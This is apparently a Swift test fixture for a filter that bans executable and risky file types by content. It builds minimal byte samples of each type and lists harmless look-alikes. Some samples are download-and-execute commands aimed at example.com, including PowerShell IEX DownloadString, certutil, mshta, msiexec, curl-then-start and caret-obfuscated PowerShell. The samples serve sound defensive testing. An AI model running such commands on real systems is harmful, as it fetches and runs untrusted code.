import TestSupport

/// The least that content is recognised by of each type that the shipped rules ban.
extension BannedSamples {
    private static func text(_ words: String) -> [UInt8] { Array(words.utf8) }

    private static func padded(_ start: [UInt8], _ count: Int) -> [UInt8] {
        start + [UInt8](repeating: 0, count: max(0, count - start.count))
    }

    /// A Windows program of headers only (PE format, sections 3.1 to 3.3).
    static func program(isLibrary: Bool = false) -> [UInt8] {
        var bytes = padded([0x4D, 0x5A], 0x100)
        bytes[60] = 0x80
        bytes.replaceSubrange(0x80..<0x84, with: [0x50, 0x45, 0, 0])
        bytes[0x84] = 0x4C
        bytes[0x85] = 0x01
        bytes[0x80 + 22] = 0x02
        bytes[0x80 + 23] = isLibrary ? 0x21 : 0x01
        return bytes
    }

    /// A program with the header of an installer of NSIS behind it.
    private static let nsis: [UInt8] =
        program() + [0, 0, 0, 0, 0xEF, 0xBE, 0xAD, 0xDE] + text("NullsoftInst") + [1, 0, 0, 0, 1, 0, 0, 0]

    private static let shortcut: [UInt8] = padded(
        [0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46], 80)

    private static let installer: [UInt8] = {
        var bytes = padded([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1], 1536)
        bytes[24] = 0x3E
        bytes[26] = 3
        bytes.replaceSubrange(28..<34, with: [0xFE, 0xFF, 9, 0, 6, 0])
        let root: [UInt8] = [0x84, 0x10, 0x0C, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46]
        bytes.replaceSubrange(512 + 80..<512 + 96, with: root)
        return bytes
    }()

    private static let image: [UInt8] = {
        var bytes = padded([], 0x9000)
        bytes.replaceSubrange(0x8000..<0x8006, with: [1, 0x43, 0x44, 0x30, 0x30, 0x31])
        return bytes
    }()

    /// Contents that are banned whatever they are called, by a name for messages of this test.
    static let contents: [(String, [UInt8])] =
        [
            ("program for Windows", program()), ("installer of NSIS", nsis), ("library", program(isLibrary: true)),
            ("program for DOS", padded([0x4D, 0x5A, 0x90], 64)),
            ("program for Unix", padded([0x7F, 0x45, 0x4C, 0x46, 2, 1, 1], 64)),
            ("program for macOS", padded([0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1], 64)),
            ("Java class", padded([0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52], 64)), ("installer", installer),
            ("shortcut", shortcut), ("Internet shortcut", text("[InternetShortcut]\r\nURL=http://example.com/\r\n")),
            ("Explorer command", text("[Shell]\r\nCommand=2\r\nIconFile=\\\\example.com\\x.ico\r\n")),
            ("desktop entry", text("[Desktop Entry]\nType=Application\nExec=true\n")),
            (
                "library of folders",
                text("<?xml version=\"1.0\"?>\n<libraryDescription xmlns=\"x\"></libraryDescription>\n")
            ),
            ("HTML application", text("<html><head><hta:application id=\"x\"></head><body>x</body></html>\n")),
            (
                "script file",
                text("<?xml version=\"1.0\"?>\n<job id=\"x\"><script language=\"VBScript\">x</script></job>\n")
            ),
            ("encoded script", text("#@~^DgAAAA==\\ko$K6,J4rJ,jwQAAA==^#~@\r\n")),
            ("batch file", text("@echo off\r\necho x\r\n")),
            ("registry file", text("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n")),
            ("compiled help", padded(text("ITSF"), 200)), ("Windows help", padded([0x3F, 0x5F, 3, 0], 64)),
            ("web query", text("WEB\r\n1\r\nhttp://example.com/\r\n")),
            (
                "image with script",
                text("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script>f()</script></svg>\n")
            ),
            ("WebAssembly", padded([0, 0x61, 0x73, 0x6D, 1], 32)),
            ("Flash", padded(text("FWS\u{5}"), 64)), ("disk image", image),
            ("virtual disk", padded(text("conectix"), 1024)),
            ("Windows image", padded(text("MSWIM\0\0\0"), 208)),
            ("ZOO archive", [UInt8](repeating: 0x5A, count: 20) + [0xDC, 0xA7, 0xC4, 0xFD, 0, 0]),
        ] + programs + settings + archives + disks

    private static let programs: [(String, [UInt8])] = [
        ("Java archive", Archives.zip("META-INF/MANIFEST.MF", text("Manifest-Version: 1.0\r\n"))),
        ("Android program", Archives.zip("AndroidManifest.xml", [3, 0, 8, 0])),
        ("iOS program", Archives.zip("Payload/x.app/Info.plist", text("bplist00"))),
        (
            "Windows package",
            Archives.zip([("[Content_Types].xml", text("<Types/>")), ("AppxManifest.xml", text("<Package/>"))])
        ),
        ("Symbian package", padded([0, 0, 0, 0, 0, 0, 0, 0, 0x19, 0x04, 0x00, 0x10], 64)),
        ("Android code", padded(text("dex\n035\0"), 112)),
        ("compiled Python", padded([0xCB, 0x0D, 0x0D, 0x0A], 32)),
        ("compiled AppleScript", padded(text("FasdUAS 1.101.10"), 64)),
        ("macOS program for several processors", padded([0xCA, 0xFE, 0xBA, 0xBF, 0, 0, 0, 2], 64)),
        (
            "Debian package",
            text("!<arch>\ndebian-binary   0           0     0     100644  4         `\n2.0\n")
        ),
        ("RPM package", padded([0xED, 0xAB, 0xEE, 0xDB, 3, 0], 96)),
        ("macOS installer", padded(text("xar!\0\u{1C}\0\u{1}"), 64)),
        ("script with objects", text("var s = new ActiveXObject(\"WScript.Shell\");\r\ns.Run(\"calc\");\r\n")),
        (
            "script with objects, far in",
            text(String(repeating: "' nothing\r\n", count: 2000) + "Set s = CreateObject(\"wscript.shell\")\r\n")
        ),
        (
            "PowerShell",
            text("$c = New-Object System.Net.WebClient\r\nIEX ($c.DownloadString('http://example.com/'))\r\n")
        ),
    ]

    private static let settings: [(String, [UInt8])] = [
        ("Internet shortcut behind a comment", text("; x\r\n\r\n[InternetShortcut]\r\nURL=http://example.com/\r\n")),
        (
            "Internet shortcut of a browser",
            text("[DEFAULT]\r\nBASEURL=x\r\n[InternetShortcut]\r\nURL=http://example.com/\r\n")
        ),
        ("batch file of one command", text("certutil -urlcache -f http://example.com/x x.tmp & x.tmp\r\n")),
        ("script that waits", text("If True Then WScript.Sleep 1000\r\n")),
        ("PowerShell that fetches", text("$x = $y.DownloadString('http://example.com/')\r\n")),
        ("batch file behind a comment", text("REM x\r\n:: y\r\n@echo off\r\n")),
        ("batch file behind another comment", text("@rem. x\r\n@ REM\tx\r\nrem\r\n@echo off\r\n")),
        ("batch file with blanks", text("@echo  off\r\nstart x\r\n")),
        ("batch file with a tab", text("@echo\toff\r\nstart x\r\n")),
        ("batch file with a blank before", text("@ echo off\r\nstart x\r\n")),
        ("batch file with other signs", text("@(=@ECHO,;off\r\nstart x\r\n")),
        ("batch file that echoes", text("echo off\r\nrem\r\n")),
        ("batch file that clears", text(":: x\r\ntitle Setup\r\n:start\r\ncls & color 0a\r\n")),
        ("batch file with variables of its own", text("@SetLocal EnableDelayedExpansion\r\n")),
        ("batch file behind a long comment", text(String(repeating: "rem x\r\n", count: 60) + "@echo off>nul\r\n")),
        ("command with carets", text("p^ow^ers\"\"h^ell^.exe -n^op x\r\n")),
        ("command over two lines", text("power^\r\nshell /w hidden\r\n")),
        ("shell without a blank", text("C:\\Windows\\System32\\cmd.exe/c start x\r\n")),
        ("shell with switches", text("cmd /q /c x\r\n")),
        ("HTML application fetched", text("\"mshta.exe\" http://example.com/x\r\n")),
        ("certutil.exe", text("certutil.exe -f -split -urlcache http://example.com/x\r\n")),
        ("installer fetched", text("msiexec /q /i http://example.com/x.msi\r\n")),
        ("start in the background", text("x & start /b y\r\n")),
        ("start elsewhere", text("start \\\\example.com\\x\\y.exe\r\n")),
        ("fetched and started", text("curl -o x.exe http://example.com/x&&start x.exe\r\n")),
        ("Windows PowerShell", text("powershell -nop -c x\r\n")),
        ("Explorer command of the taskbar", text("[Shell]\r\ncommand = 2\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n")),
        ("Explorer command with blanks", text("[shell]\r\n iconfile \t= \\\\example.com\\x.ico\r\n")),
        ("desktop entry with its program", text("#!/usr/bin/env xdg-open\n[Desktop Entry]\nExec=true\n")),
        (
            "ClickOnce shortcut",
            wide(
                "http://example.com/x.application#x.application, Culture=neutral, PublicKeyToken=0123456789abcdef,"
                    + " processorArchitecture=msil")
        ),
        ("settings of Terminal", text(plist + "<dict><key>CommandString</key><string>id</string></dict></plist>\n")),
        (
            "settings of Terminal with a picture",
            text(
                plist + "<dict><key>BackgroundColor</key><data>" + String(repeating: "QUFB", count: 2000)
                    + "</data><key>CommandString</key><string>id</string></dict></plist>\n")
        ),
        (
            "configuration profile",
            text(
                plist + "<dict><key>PayloadContent</key><array/><key>PayloadType</key><string>Configuration</string>"
                    + "</dict></plist>\n")
        ),
        ("binary settings of Terminal", padded(text("bplist00") + [0xD1, 1, 2] + text("]CommandStringRid"), 64)),
        (
            "binary shortcut of macOS",
            padded(text("bplist00") + [0xD1, 1, 2] + text("SURL_\u{10}\u{13}http://example.com/"), 64)
        ),
        (
            "definition of commands",
            text("<?xml version=\"1.0\"?>\n<PowerShellMetadata xmlns=\"x\"><Class/></PowerShellMetadata>\n")
        ),
        ("Outlook profile with blanks", text("[Service List]\r\nX=x\r\n[General]\r\nprofilename = x\r\n")),
        ("task of another Windows", marked(task, 0, [0x05, 0x06])),
        ("Explorer command further down", text("[x]\r\ny=1\r\n [shell]\r\nIconFile=\\\\example.com\\x.ico\r\n")),
        ("Remote Desktop file", text("screen mode id:i:2\r\nfull address:s:example.com\r\n")),
        (
            "macOS shortcut",
            text(
                "<?xml version=\"1.0\"?>\n<plist version=\"1.0\"><dict><key>URL</key><string>http://example.com/</string></dict></plist>\n"
            )
        ),
        ("setup information", text("; x\r\n[Version]\r\nSignature=\"$CHICAGO$\"\r\n")),
        (
            "setup information further down",
            text("[DefaultInstall]\r\nRunPreSetupCommands=x\r\n[version]\r\nsignature = $Windows NT$\r\n")
        ),
        ("management console", text("<?xml version=\"1.0\"?>\n<MMC_ConsoleFile ConsoleVersion=\"3.0\"/>\n")),
        ("Java Web Start", text("<?xml version=\"1.0\"?>\n<jnlp spec=\"1.0+\"></jnlp>\n")),
        (
            "ClickOnce",
            text(
                "<?xml version=\"1.0\"?>\n<asmv1:assembly xmlns=\"x\"><deployment install=\"true\"/></asmv1:assembly>\n"
            )
        ),
        ("search", text("<?xml version=\"1.0\"?>\n<persistedQuery version=\"1.0\"></persistedQuery>\n")),
        ("program information", marked(600, 369, text("MICROSOFT PIFEX"))), ("task", task),
        (
            "theme",
            text("; x\r\n[Theme]\r\nDisplayName=x\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\example.com\\x.jpg\r\n")
        ),
        ("theme with its own mark", text("[Theme]\r\n\r\n[MasterThemeSelector]\r\nMTSM=DABJDKT\r\n")),
        ("Outlook profile", text("[General]\r\nCustom=1\r\nProfileName=x\r\n\r\n[Service List]\r\nServiceX=x\r\n")),
        ("data link", wide("[oledb]\r\n; Everything after this line is an OLE DB initstring\r\nProvider=x\r\n")),
        (
            "Windows Sandbox",
            text("<Configuration>\n<LogonCommand><Command>calc.exe</Command></LogonCommand>\n</Configuration>\n")
        ),
        ("App Installer", text("<?xml version=\"1.0\"?>\n<AppInstaller Uri=\"http://example.com/x\"/>\n")),
        ("database query", text("XLODBC\r\n1\r\nDSN=x\r\n")), ("OLAP query", text("QueryType=OLEDB\r\nVersion=1\r\n")),
        ("SYLK", text("ID;PWXL;N;E\r\nC;X1;Y1;K0\r\nE\r\n")),
        ("Access database", padded([0, 1, 0, 0] + text("Standard ACE DB"), 512)),
    ]

    private static let plist = "<?xml version=\"1.0\"?>\n<plist version=\"1.0\">\n"

    /// A task for `a` (MS-TSCH section 2.4).
    private static let task: [UInt8] = {
        var bytes = padded([0x01, 0x06, 0x01, 0x00], 200)
        bytes.replaceSubrange(20..<24, with: [70, 0, 76, 0])
        bytes.replaceSubrange(70..<76, with: [2, 0, 0x61, 0, 0, 0])
        return bytes
    }()

    /// Text in UTF-16, with its mark.
    private static func wide(_ words: String) -> [UInt8] {
        [0xFF, 0xFE] + words.utf16.flatMap { [UInt8(truncatingIfNeeded: $0), UInt8(truncatingIfNeeded: $0 >> 8)] }
    }

    private static let archives: [(String, [UInt8])] = [
        (
            "ARC archive",
            [0x1A, 2] + text("a.txt") + [UInt8](repeating: 0, count: 8) + [
                1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0x41,
            ]
                + [0x1A, 0]
        ),
        ("ACE archive", padded([0, 0, 0, 0, 0, 0, 0] + text("**ACE**"), 64)),
        ("ALZ archive", padded([0x41, 0x4C, 0x5A, 1], 64)), ("EGG archive", padded(text("EGGA"), 64)),
        ("FreeArc archive", padded([0x41, 0x72, 0x43, 1], 64)), ("ZPAQ archive", padded(text("zPQ\u{1}\u{1}"), 64)),
        ("StuffIt archive", padded(text("SIT!"), 64)),
    ]

    private static let disks: [(String, [UInt8])] = [
        ("UDF", marked(0x9000, 0x8000, [0] + text("NSR02"))),
        (
            "disk with partitions",
            marked(marked(8192, 446, [0x80, 1, 1, 0, 0x0C, 1, 1, 0, 1, 0, 0, 0, 15, 0, 0, 0]), 510, [0x55, 0xAA])
        ),
        ("VHDX", padded(text("vhdxfile"), 1024)), ("VMDK", padded(text("KDMV"), 1024)),
        ("QCOW", padded([0x51, 0x46, 0x49, 0xFB], 1024)), ("Squashfs", padded(text("hsqs"), 1024)),
        ("sparse image of Android", padded([0x3A, 0xFF, 0x26, 0xED, 1, 0, 0, 0, 28, 0, 12, 0, 0, 0x10], 28)),
        ("Squashfs of the other order", padded(text("shsq"), 1024)),
        ("sparse image of Apple", padded(text("sprs\0\0\0\u{3}"), 1024)),
        ("encrypted image of Apple", padded([], 2000) + text("cdsaencr")),
        ("Apple disk image", marked(1536, 1024, text("koly"))), ("VDI", marked(1024, 64, [0x7F, 0x10, 0xDA, 0xBE])),
        ("QED", padded(text("QED\0"), 1024)), ("Parallels", padded(text("WithoutFreeSpace"), 1024)),
        (
            "CD in raw sectors",
            padded([0x00] + [UInt8](repeating: 0xFF, count: 10) + [0x00, 0x00, 0x02, 0x00, 0x01], 2352)
        ),
        (
            "ext file system",
            [(1024, [16]), (1028, [64]), (1044, [1]), (1057, [32]), (1064, [16]), (1080, [0x53, 0xEF, 1])].reduce(
                padded([], 4096)
            ) { marked($0, $1.0, $1.1) }
        ),
        ("HFS Plus file system", marked(4096, 1024, [0x48, 0x2B, 0, 4])),
        ("APFS file system", marked(4096, 32, text("NXSB"))),
        ("XFS file system", padded(text("XFSB") + [0, 0, 0x10, 0], 4096)),
        ("Apple partition map", marked(8192, 512, text("PM") + [0, 0, 0, 0, 0, 2, 0, 0, 0, 1, 0, 0, 0, 0x3F])),
        ("Btrfs file system", marked(70_000, 65_600, text("_BHRfS_M"))),
        ("physical volume of LVM", marked(marked(4096, 512, text("LABELONE")), 536, text("LVM2 001"))),
        ("ReiserFS file system", marked(70_000, 65_588, text("ReIsEr2Fs"))),
        ("JFS file system", marked(40_000, 32_768, text("JFS1"))),
        ("cramfs image", marked(4096, 16, text("Compressed ROMFS"))), ("romfs image", padded(text("-rom1fs-"), 4096)),
        ("Minix file system", marked(marked(4096, 1024, [32, 0, 64, 0, 1, 0, 1, 0, 6, 0]), 1040, [0x8F, 0x13])),
        ("encrypted volume", padded([0x4C, 0x55, 0x4B, 0x53, 0xBA, 0xBE], 4096)),
    ]

    /// Zeros with something at a place.
    private static func marked(_ count: Int, _ place: Int, _ bytes: [UInt8]) -> [UInt8] {
        marked([UInt8](repeating: 0, count: count), place, bytes)
    }

    private static func marked(_ content: [UInt8], _ place: Int, _ bytes: [UInt8]) -> [UInt8] {
        var out = content
        out.replaceSubrange(place..<place + bytes.count, with: bytes)
        return out
    }

    /// Files that look a little like those, and are none.
    static let harmlessContents: [(name: String, content: [UInt8])] = [
        ("plan.svg", text("<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0h9\"/></svg>\n")),
        ("notes.txt", text("Our PowerShell guide: open a console and type Get-Help. WScript is gone.\r\n")),
        ("setup.ini", text("[General]\r\nURL=http://example.com/\r\n[Shelly]\r\nCommand=2\r\n")),
        ("guide.txt", text("Use the commands certutil, mshta and schtasks as the manual says.\r\n")),
        ("colours.ini", text("[Theme]\r\nDisplayName=x\r\nName=[VisualStyles]\r\n")),
        ("users.ini", text("ProfileName=x\r\n[Services]\r\n[Lists]\r\n")), ("oledb.txt", text("see [oledb] there\r\n")),
        ("pifex.txt", text("MICROSOFT PIFEX\r\n")), ("numbers.bin", padded([0x01, 0x06, 0x01, 0x00], 200)),
        ("list.csv", text("ID,name\r\n1,begin\r\n")), ("id.txt", text("ID card: please bring it\r\n")),
        ("page.xml", text("<?xml version=\"1.0\"?>\n<assembly><part/></assembly>\n")),
        (
            "settings.plist",
            text("<?xml version=\"1.0\"?>\n<plist version=\"1.0\"><dict><key>Name</key></dict></plist>\n")
        ),
        ("data.bin", padded([0xCB, 0x0D, 0x0D, 0x00], 32)), ("song.mp3", padded(text("ID3\u{3}"), 64)),
        ("data.zip", Archives.zip("letter.txt", text("hello"))), ("dex.txt", text("dexterity is a skill\r\n")),
        ("mac.txt", text("Press Cmd/C to copy, Cmd/Ctrl + V to paste, cmd / k for links. Title pages follow.\r\n")),
        ("title.txt", text("Title page\r\nColor theory\r\n:-)\r\nThe stage is clear; echo off the walls.\r\n")),
        ("clear.txt", text("Remember\r\ncls\r\n")), ("official.txt", text("@echo official\r\n")),
        ("shell.md", text("curl http://example.com/x | sh\nRestart /b when started. PowerShell - a guide.\n")),
        ("bash.ini", text("[Shell]\r\nCommand=/bin/bash\r\nArguments=-l\r\n")),
        ("info.plist", text(plist + "<dict><key>CommandLine</key><string>id</string></dict></plist>\n")),
        ("data.plist", padded(text("bplist00") + [0xD1, 1, 2] + text("TName"), 64)),
        ("reference.txt", text("see http://example.com/x.application#top for the culture of it\r\n")),
        ("pm.bin", marked(8192, 512, text("PM"))),
        ("install.txt", text("cat > x.desktop <<EOF\n[Desktop Entry]\nExec=true\nEOF\n")),
        ("echo.txt", text("the echo off the wall\r\n@echo on\r\n")), ("rem.txt", text("REM sleep is a phase\r\n")),
        ("echoes.txt", text("@echo on\r\n@echooff\r\n")), ("remark.txt", text("Remember: we meet at nine.\r\n")),
        ("version.ini", text("[x]\r\ny=1\r\n[Version]\r\nSignature=Jane Doe, $CHICAGO\r\n")),
        ("shell.ini", text("[x]\r\ny=1\r\n[Shell]\r\nPath=/bin/sh\r\n")),
    ]

    /// Content of types that hold no files, most of them harmless.
    static let plainTypes: [(String, [UInt8])] = [
        ("MPEG stream", padded([0, 0, 1, 0xBA, 0x21, 0, 1, 0, 1, 0x80, 1], 200)),
        ("MPEG video", padded([0, 0, 1, 0xB3, 0x16, 0, 0xF0, 0xC4, 2], 200)),
        ("MPEG transport", (0..<5).flatMap { _ in padded([0x47, 0x40, 0, 0x10], 188) }),
        ("MP3 with a tag", padded(text("ID3\u{3}\0\0\0\0\0\u{21}"), 43) + padded([0xFF, 0xFB, 0x90, 0], 500)),
        ("MP3", (0..<5).flatMap { _ in padded([0xFF, 0xFB, 0x90, 0], 417) }),
        (
            "Windows Media",
            padded([0x30, 0x26, 0xB2, 0x75, 0x8E, 0x66, 0xCF, 0x11, 0xA6, 0xD9, 0, 0xAA, 0, 0x62, 0xCE, 0x6C], 200)
        ),
        ("AVI", padded(text("RIFFd\0\0\0AVI LIST"), 200)),
        ("WAVE", padded(text("RIFFd\0\0\0WAVEfmt \u{10}\0\0\0\u{1}\0\u{1}\0"), 200)),
        ("Ogg", padded(text("OggS\0\u{2}"), 26) + padded(text("\u{1}\u{1E}\u{1}vorbis"), 100)),
        ("FLAC", padded(text("fLaC\0\0\0\u{22}"), 100)),
        ("MP4", padded([0, 0, 0, 0x18] + text("ftypmp42\0\0\0\0mp42isom"), 100)),
        ("Matroska", padded([0x1A, 0x45, 0xDF, 0xA3, 0x93, 0x42, 0x82, 0x88] + text("matroska"), 100)),
        ("MIDI", padded(text("MThd\0\0\0\u{6}\0\u{1}\0\u{2}\0\u{60}MTrk"), 100)),
        ("icon", padded([0, 0, 1, 0, 1, 0, 0x10, 0x10, 0, 0, 1, 0, 8, 0, 0x68, 5, 0, 0, 0x16, 0, 0, 0], 1400)),
        ("animated cursor", padded(text("RIFFd\0\0\0ACONanih"), 100)),
        ("BMP", padded(text("BMF\0\0\0\0\0\0\0\u{36}\0\0\0\u{28}\0\0\0\u{2}\0\0\0\u{2}\0\0\0\u{1}\0\u{18}\0"), 86)),
        ("PCX", padded([0x0A, 5, 1, 8, 0, 0, 0, 0, 0x0F, 0, 0x0F, 0], 200)),
        ("PostScript", text("%!PS-Adobe-3.0\n%%Title: x\nshowpage\n")), ("TeX", text("\\documentclass{article}\n")),
        ("RTF", text("{\\rtf1\\ansi hi}")), ("PDF", text("%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n")),
        ("HTML", text("<!DOCTYPE html><html><body>hi</body></html>")), ("XML", text("<?xml version=\"1.0\"?><a/>")),
        ("OpenPGP", text("-----BEGIN PGP MESSAGE-----\n\nhQEMA\n-----END PGP MESSAGE-----\n")),
        ("uuencoded", text("begin 644 a.txt\n#86)C\n`\nend\n")),
        ("Intel HEX", text(":0300300002337A1E\r\n:00000001FF\r\n")),
        (
            "UEFI volume",
            padded(
                [UInt8](repeating: 0, count: 16) + [
                    0x78, 0xE5, 0x8C, 0x8C, 0x3D, 0x8A, 0x1C, 0x4F, 0x99, 0x35, 0x89, 0x61, 0x85, 0xC3, 0x2D, 0xD3,
                ], 200)
        ),
        ("Reader book", padded(text("ITOLITLS\u{1}\0\0\0("), 200)),
        ("BinHex", text("(This file must be converted with BinHex 4.0)\n:abc:\n")),
        ("C source", text("#include <stdio.h>\nint main(void){return 0;}\n")), ("shell", text("#!/bin/sh\necho\n")),
        ("Perl", text("#!/usr/bin/perl\nprint 1;\n")), ("Emacs", text(";ELC\u{17}\0\0\0\n;;; Compiled\n")),
        ("SQLite", padded(text("SQLite format 3\0"), 116)), ("GIF", text("GIF89a\u{1}\0\u{1}\0\0\0\0;")),
        (
            "PNG",
            [
                0x89, 0x50, 0x4E, 0x47, 13, 10, 26, 10, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8,
                6, 0, 0, 0,
            ]
        ),
        (
            "JPEG",
            [0xFF, 0xD8, 0xFF, 0xE0, 0, 0x10] + text("JFIF\0\u{1}\u{1}\u{1}\0\u{48}\0\u{48}\0\0") + [0xFF, 0xD9]
        ),
        ("TIFF", padded(text("II*\0\u{8}"), 58)), ("nothing", []),
        ("noise", (0..<512).map { UInt8(truncatingIfNeeded: $0 &* 197 &+ 131) | 0x80 }),
        ("Latin-1", (0..<5).flatMap { _ in [0x47, 0x72, 0xFC, 0xDF, 0x65, 0x20, 0x4D, 0xFC, 0x6E, 0x0A] }),
        ("UTF-8", text("Grüße aus München\n")), ("Access", padded([0, 1, 0, 0] + text("Standard Jet DB\0"), 220)),
        ("macOS", padded([0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1, 3, 0, 0, 0, 2, 0, 0, 0], 300)),
        ("Java", padded([0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 0x34], 68)), ("shortcut", shortcut),
        ("TNEF", padded([0x78, 0x9F, 0x3E, 0x22, 1, 0, 6, 0x90, 8, 0, 4, 0], 60)),
        ("patch", text("--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n")), ("batch", text("@echo off\r\necho\r\n")),
        ("RPM", padded([0xED, 0xAB, 0xEE, 0xDB, 3, 0, 0, 0, 0, 1, 0x78], 110)),
        ("WebAssembly", padded([0, 0x61, 0x73, 0x6D, 1], 28)), ("Flash", padded(text("FWS\u{5}\u{40}"), 48)),
        ("registry", text("Windows Registry Editor Version 5.00\r\n\r\n")),
        ("Internet shortcut", text("[InternetShortcut]\r\nURL=http://example.com/\r\n")),
    ]
}
